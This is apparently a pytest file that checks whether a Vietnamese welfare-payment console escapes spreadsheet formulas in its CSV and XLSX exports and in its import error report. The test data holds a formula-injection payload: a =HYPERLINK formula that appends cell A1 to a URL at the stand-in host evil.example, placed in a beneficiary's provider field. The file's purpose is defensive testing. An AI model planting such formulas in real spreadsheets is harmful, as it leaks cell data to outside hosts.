"""Formula injection: a list whose provider is typed as "=HYPERLINK(…)" and whose header is a
formula is imported through the console; the indicator exports and the error report the
officer downloads must show those texts, never run them in Excel."""
from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.console_support import make_officer, post, sign_in

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
LIST = ("Mã đối tượng,Họ và tên,Ngày sinh,=Mã xã,Diện đối tượng,Hình thức nhận,Đơn vị chi trả\n"
        f'HUE-0701,Lê Thị Một,1941,19786,NCT_80,Ví điện tử,"{EVIL.replace(chr(34), chr(34) * 2)}"\n'
        "HUE-0702,Lê Thị Hai,31/02/1941,-19786,NCT_80,Tiền mặt,Bưu điện\n")
RESULTS = "Kỳ chi trả,Mã đối tượng,Số tiền,Trạng thái\n11/2026,HUE-0701,500.000,Đã chi trả\n"


@pytest.fixture
def imported(app, sessions):
    app.config["CONSOLE_IMPORT_INLINE"] = True
    with sessions.begin() as session:
        make_officer(session, "tinh", "province", "46")
    client = app.test_client()
    sign_in(client, "tinh")
    jobs = []
    for kind, text in (("beneficiaries", LIST), ("payments", RESULTS)):
        response = post(client, "/console/imports", {"kind": kind, "file": (io.BytesIO(text.encode()), f"{kind}.csv")},
                        content_type="multipart/form-data")
        jobs.append(response.headers["Location"])
    return client, jobs


def test_csv_export_neutralises_formulas(imported):
    client, _ = imported
    text = client.get("/console/indicators.csv?period=2026-11").get_data(as_text=True)
    assert "'" + EVIL.replace('"', '""') in text
    assert ";=" not in text and ",=" not in text and "\n=" not in text


def test_xlsx_export_keeps_formulas_as_text(imported):
    client, _ = imported
    book = load_workbook(io.BytesIO(client.get("/console/indicators.xlsx?period=2026-11").data))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    evil = [cell for cell in cells if cell.value == EVIL]
    assert evil and all(cell.data_type == "s" for cell in evil)
    assert not any(cell.data_type == "f" for cell in cells)


def test_error_report_neutralises_a_formula_header(imported):
    client, jobs = imported
    report = client.get(jobs[0] + "/errors.csv").get_data(as_text=True)
    assert "3;Ngày sinh;" in report and "3;'=Mã xã;Không có xã" in report
    lines = report.splitlines()
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.split(";"))
